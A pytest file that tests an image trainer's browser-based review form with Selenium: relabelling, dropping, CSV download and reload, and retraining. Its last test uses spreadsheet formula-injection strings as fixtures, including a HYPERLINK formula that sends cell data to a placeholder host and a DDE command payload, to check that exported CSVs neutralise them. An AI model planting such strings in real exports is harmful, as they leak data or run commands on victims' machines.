"""The review form in report.html, driven in a real browser: Debian's chromium through
chromium-driver with Selenium, from file:// with no server. In CI (TRAINER_CI=1) a missing
browser or driver fails the test instead of skipping it."""

from __future__ import annotations

import csv
import io
import json
import shutil
import time
from pathlib import Path

import pytest

from tests.conftest import IN_CI, run_module, train_args
from trainer import cells

CHROMIUM, DRIVER = Path("/usr/bin/chromium"), Path("/usr/bin/chromedriver")


@pytest.fixture()
def browser(tmp_path):
    """A headless chromium that saves downloads into tmp_path/downloads without asking."""
    missing = [str(path) for path in (CHROMIUM, DRIVER) if not path.is_file()]
    try:
        from selenium import webdriver
        from selenium.webdriver.chrome.service import Service
    except ImportError:
        missing.append("selenium (requirements-dev.txt)")
    if missing:
        if IN_CI:
            pytest.fail(f"{', '.join(missing)} not installed; .ci/run installs chromium and chromium-driver")
        pytest.skip(f"{', '.join(missing)} not here")
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    for argument in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"):
        options.add_argument(argument)
    options.add_experimental_option(
        "prefs", {"download.default_directory": str(downloads), "download.prompt_for_download": False}
    )
    driver = webdriver.Chrome(service=Service(str(DRIVER)), options=options)
    driver.downloads = downloads
    yield driver
    driver.quit()


def _waited_for(path: Path, seconds: float = 30) -> Path:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if path.is_file() and path.stat().st_size > 0:
            return path
        time.sleep(0.1)
    raise AssertionError(f"{path} never arrived")


def test_an_inspector_relabels_one_drops_another_downloads_and_trains_with_it(browser, run_dir, tmp_path):
    """The run's report with two of its training images listed by the audit: in the browser,
    relabel the first, drop the second, download corrections.csv; load it back into a fresh page
    (the decisions return); then `train --corrections` on the same data relabels one and drops
    one, and keeps the same test split."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    run = tmp_path / "run"
    shutil.copytree(run_dir, run)
    split = list(csv.DictReader((run / "split.csv").open()))
    chosen = [row for row in split if row["Split"] == "train"][:2]
    with (run / "audit.csv").open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["ImagePath", "Label", "SuggestedLabel", "Score", "Reason", "Group"])
        other = {"CD": "UD", "UD": "CD"}
        for row in chosen:
            writer.writerow([row["ImagePath"], row["Label"], other[row["Label"]], "0.9100", "label: unlikely", ""])
    assert run_module("report", run).returncode == 0

    browser.get((run / "report.html").as_uri())
    selects = browser.find_elements(By.CSS_SELECTOR, "table.review tr[data-path] select")
    assert len(selects) == 2
    relabel_to = other[chosen[0]["Label"]]
    Select(selects[0]).select_by_value(relabel_to)
    Select(selects[1]).select_by_value("drop")
    assert browser.find_element(By.ID, "review-status").text == "1 relabelled, 1 dropped, 0 kept of 2"
    browser.find_element(By.ID, "review-download").click()
    saved = _waited_for(browser.downloads / "corrections.csv")
    decisions = list(cells.read_dicts(saved.open()))
    opinions = [f"label:{other[row['Label']]}" for row in chosen]
    assert [(d["ImagePath"], d["Label"], d["Sha256"], d["Opinion"]) for d in decisions] == [
        (chosen[0]["ImagePath"], relabel_to, chosen[0]["Sha256"], opinions[0]),
        (chosen[1]["ImagePath"], "drop", chosen[1]["Sha256"], opinions[1]),
    ]

    browser.get((run / "report.html").as_uri())  # a later sitting: the decisions load back
    browser.find_element(By.ID, "review-load").send_keys(str(saved))
    deadline = time.monotonic() + 10
    while "loaded" not in browser.find_element(By.ID, "review-status").text and time.monotonic() < deadline:
        time.sleep(0.1)
    selects = browser.find_elements(By.CSS_SELECTOR, "table.review tr[data-path] select")
    assert [Select(s).first_selected_option.get_attribute("value") for s in selects] == [relabel_to, "drop"]

    corrected = tmp_path / "corrected"
    images = run_dir.parent / "Images"
    dataset_record = tmp_path / "cracks-record"
    result = run_module(*train_args(images, epochs=1, output=corrected, workspace=tmp_path / "ws", corrections=saved,
                                    record=dataset_record))  # fmt: skip
    assert result.returncode == 0, result.stderr
    summary = json.loads((corrected / "manifest.json").read_text())["data"]["corrections"]
    assert (summary["relabelled"], summary["dropped"], summary["record"]) == (1, 1, str(dataset_record))
    # The run keeps the decisions it applied; the record holds them for every later run.
    applied = [(d["ImagePath"], d["Label"]) for d in cells.read_dicts((corrected / "corrections.csv").open())]
    assert applied == [(d["ImagePath"], d["Label"]) for d in decisions]
    assert len(list((dataset_record / "decisions").glob("*.csv"))) == 1
    after = {row["ImagePath"]: row for row in csv.DictReader((corrected / "split.csv").open())}
    assert chosen[1]["ImagePath"] not in after
    assert after[chosen[0]["ImagePath"]]["Label"] == relabel_to
    assert {p for p, r in after.items() if r["Split"] == "test"} == {
        r["ImagePath"] for r in split if r["Split"] == "test"
    }
    assert "Review decisions applied" in (corrected / "report.html").read_text()


def test_the_review_cells_save_lands_in_the_record_invoke_train_reads(tmp_path):
    """colab.ipynb's review cell: its save (the kernel side of "Save to Drive") checks the form's
    CSV and adds it to the dataset's record beside the published model, where `invoke train`
    reads it and says so. A CSV --corrections would refuse is refused, nothing written."""
    from tests.conftest import bundle_copy, invoke
    from trainer import record
    from trainer.diagnostics import review

    published = tmp_path / "drive" / "cracks"
    published.mkdir(parents=True)
    folder = record.beside(published)
    assert review.save_to_record(folder, "path,label\nCD/1.jpg,UD\n").startswith("not saved: ")
    assert not folder.exists()
    images = tmp_path / "Images"
    (images / "CD").mkdir(parents=True)
    (images / "UD").mkdir()
    from PIL import Image

    for index in range(3):
        Image.new("RGB", (8, 8), (index * 40, 10, 10)).save(images / "CD" / f"{index}.png")
        Image.new("RGB", (8, 8), (10, index * 40, 10)).save(images / "UD" / f"{index}.png")
    said = review.save_to_record(folder, f"ImagePath,Label\n{images / 'CD' / '1.png'},UD\n")
    assert said.startswith(f"1 decision(s) added to the dataset's record {folder}")
    copy = bundle_copy(tmp_path)
    result = invoke(copy, "train", "--folder", str(images), "--name", "cracks", "--dry-run",
                    env={"INVOKE_PUBLISH_TO": str(published)})  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert f"--record {folder}" in result.stdout


# Labels and file names a spreadsheet would run as formulas, or that need the CSV's quoting.
HOSTILE_LABELS = ['=HYPERLINK("http://x/?"&A2,"click")', "+1+1", "@SUM(2+2)", 'say "hi"', "a, b", "-1", "'quoted"]
HOSTILE_PATHS = ["=cmd|' /C calc'!A0.jpg", "+1+1.jpg", "@SUM(2+2).jpg", "-rf.jpg", "'quoted.jpg",
                 'say "hi", then.jpg', "line\rbreak.jpg", "ünï cødé 裂缝.jpg"]  # fmt: skip


def test_hostile_names_round_trip_between_the_forms_script_and_python(browser, tmp_path):
    """The form's JavaScript writes corrections.csv as trainer/cells.py does: relabelled to
    hostile labels, hostile paths, every decision reads back through parse_corrections as it was
    made and no cell begins a formula; and a file Python wrote (format_corrections) loads back
    into the form as the same decisions."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    from trainer.data.corrections import Correction, format_corrections, parse_corrections
    from trainer.diagnostics import review

    labels = HOSTILE_LABELS
    rows = [{"ImagePath": path, "Label": labels[index % len(labels)], "SuggestedLabel": labels[(index + 1) % len(labels)],
             "Score": "0.9100", "Reason": "label: unlikely", "Group": ""}
            for index, path in enumerate(HOSTILE_PATHS)]  # fmt: skip
    page = tmp_path / "form.html"
    page.write_text("<!DOCTYPE html><html><head><meta charset='utf-8'></head><body>"
                    + review.form(rows, labels, {}) + "</body></html>", encoding="utf-8")  # fmt: skip
    chosen = [row["SuggestedLabel"] for row in rows]
    chosen[-1] = "drop"
    browser.get(page.as_uri())
    selects = browser.find_elements(By.CSS_SELECTOR, "table.review tr[data-path] select")
    assert len(selects) == len(rows)
    for select, value in zip(selects, chosen, strict=True):
        Select(select).select_by_value(value)
    browser.find_element(By.ID, "review-download").click()
    saved = _waited_for(browser.downloads / "corrections.csv")
    text = saved.read_bytes().decode("utf-8")  # as read_corrections reads it: a carriage return kept
    written = [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record]
    assert not [cell for cell in written if cell.startswith(cells.FORMULA) and not cells.is_number(cell)]
    expected = [(row["ImagePath"], value, review.opinion(row)) for row, value in zip(rows, chosen, strict=True)]
    assert [(c.written, c.label, c.opinion) for c in parse_corrections(text, saved)] == expected

    decisions = [Correction(0, path, label, opinion=opinion) for path, label, opinion in reversed(expected)]
    (tmp_path / "python.csv").write_bytes(format_corrections(decisions).encode("utf-8"))
    browser.get(page.as_uri())
    browser.find_element(By.ID, "review-load").send_keys(str(tmp_path / "python.csv"))
    deadline = time.monotonic() + 10
    while "loaded" not in browser.find_element(By.ID, "review-status").text and time.monotonic() < deadline:
        time.sleep(0.1)
    assert browser.find_element(By.ID, "review-status").text.startswith(f"loaded {len(rows)} decision(s);")
    selects = browser.find_elements(By.CSS_SELECTOR, "table.review tr[data-path] select")
    assert [Select(s).first_selected_option.get_attribute("value") for s in selects] == chosen
